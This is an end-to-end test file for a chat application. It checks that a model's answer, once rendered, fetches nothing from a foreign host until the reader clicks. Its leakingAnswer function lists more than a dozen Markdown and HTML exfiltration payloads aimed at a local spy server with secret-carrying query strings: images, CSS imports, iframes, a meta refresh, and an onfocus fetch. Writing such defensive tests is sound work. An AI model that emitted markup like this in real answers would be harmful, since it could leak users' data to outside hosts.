/** What a model writes is looked at without a single request to a foreign host; only a click of the reader leads there. */
import { createServer, type Server } from 'node:http';
import { once } from 'node:events';
import type { AddressInfo } from 'node:net';
import { startModelServer, type ModelServer } from '#testing/model-server';
import { strongPassword } from '#testing/server';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { createAgent, createConversation, say, waitForAnswer } from '../src/testing/agents-fixture.ts';
import { startEndToEnd, type EndToEnd, type Tab } from './harness.ts';

let end: EndToEnd;
let model: ModelServer;
let spy: Server;
let spyUrl: string;
let tab: Tab;
let chat: string;
/** Everything that reached the foreign host, browser's guesses included. */
const reached: string[] = [];
/** Every address the browser asked for. */
const asked: string[] = [];

beforeAll(async () => {
  spy = createServer((request, response) => {
    reached.push(request.url ?? '');
    response.setHeader('content-type', 'text/html').end('<title>Elsewhere</title>');
  }).listen(0, '127.0.0.1');
  await once(spy, 'listening');
  // Another host in the eyes of the browser, though it is the same machine.
  spyUrl = `http://localhost:${(spy.address() as AddressInfo).port}`;
  model = await startModelServer();
  end = await startEndToEnd({ environment: { MODEL_PRIVATE_NETWORKS: '127.0.0.0/8' } });
  const { client } = await end.server.signUpOwner();
  const body = { name: 'Scripted', kind: 'openai-compatible', baseUrl: `${model.url}/v1` };
  const connection = await client.expect(201, 'POST /model-connections', { body });
  model.setScript(() => ({ kind: 'answer', deltas: [leakingAnswer(spyUrl)], usage: { input: 10, output: 10 } }));
  const agent = await createAgent(client, { model: { connectionId: connection.json.id, model: 'plain' } });
  const conversation = await createConversation(client, agent.id);
  await waitForAnswer(client, await say(client, conversation.id, leakingAnswer(spyUrl)));
  chat = `/agents/${agent.id}/chat/${conversation.id}`;
  tab = await end.openTab();
  tab.page.on('request', (request) => void asked.push(request.url()));
});
afterAll(async () => {
  await end?.[Symbol.asyncDispose]();
  await model?.close();
  spy?.close();
});

/** leakingAnswer tries every way of Markdown and HTML to have something fetched that carries what was read. */
function leakingAnswer(host: string): string {
  return [
    `![chart](${host}/picture?secret=1)`,
    `![ref][r]\n\n[r]: ${host}/reference?secret=2`,
    `[![nested](${host}/nested?secret=3)](${host}/link?secret=3)`,
    `<img src="${host}/html?secret=4" srcset="${host}/srcset?secret=4 2x">`,
    `<picture><source srcset="${host}/source?secret=5"><img src="${host}/fallback?secret=5"></picture>`,
    `<style>@import "${host}/import?secret=6"; p { background: url(${host}/css?secret=6) }</style>`,
    `<p style="background:url(${host}/inline?secret=7)">styled</p>`,
    `<link rel="preload" as="image" href="${host}/preload?secret=8"><link rel="dns-prefetch" href="${host}">`,
    `<iframe src="${host}/frame?secret=9"></iframe><object data="${host}/object?secret=9"></object>`,
    `<video src="${host}/video?secret=10" poster="${host}/poster?secret=10" autoplay></video><audio src="${host}/audio"></audio>`,
    `<svg><image href="${host}/svg?secret=11"/><use href="${host}/use#x"/></svg>`,
    `<meta http-equiv="refresh" content="0;url=${host}/refresh?secret=12">`,
    `<form action="${host}/form"><input name="q" autofocus onfocus="fetch('${host}/script')"></form>`,
    `[a link](${host}/plain?secret=13) and ${host}/bare?secret=14`,
    'The end of it.',
  ].join('\n\n');
}

test('[K5.2] nothing in an answer or a question is fetched from a foreign host by being looked at, hovered or focused', async () => {
  const { page } = tab;
  await page.goto(`/sign-in?next=${chat}`);
  await page.getByLabel('E-mail or username').fill('ada@example.com');
  await page.getByLabel(/^Password \*?$/).fill(strongPassword);
  await page.getByRole('button', { name: 'Sign in' }).click();
  const answer = page.getByRole('article').last();
  await answer.getByText('The end of it.').waitFor();
  const links = answer.getByRole('link');
  expect(await links.count()).toBeGreaterThan(3);
  for (const link of await links.all()) {
    await link.hover();
    await link.focus();
  }
  await page.reload();
  await answer.getByText('The end of it.').waitFor();
  await page.waitForLoadState('networkidle');
  expect(await answer.getByText(/not loaded/).count()).toBeGreaterThan(1);
  expect(await page.locator('article img').count()).toBe(0);
  expect(asked.filter((url) => !url.startsWith(end.server.url))).toEqual([]);
  expect(reached).toEqual([]);
  expect(tab.complaints).toEqual([]);
});

test('[K5.2] a click is consent: the foreign page opens in a tab that knows nothing of where it came from', async () => {
  const opening = tab.context.waitForEvent('page');
  await tab.page
    .getByRole('article')
    .last()
    .getByRole('link', { name: /a link/ })
    .click();
  const foreign = await opening;
  await foreign.waitForLoadState();
  expect(await foreign.title()).toBe('Elsewhere');
  expect(await foreign.evaluate('[opener, document.referrer]')).toEqual([null, '']);
  expect(reached.filter((path) => path !== '/favicon.ico')).toEqual(['/plain?secret=13']);
});
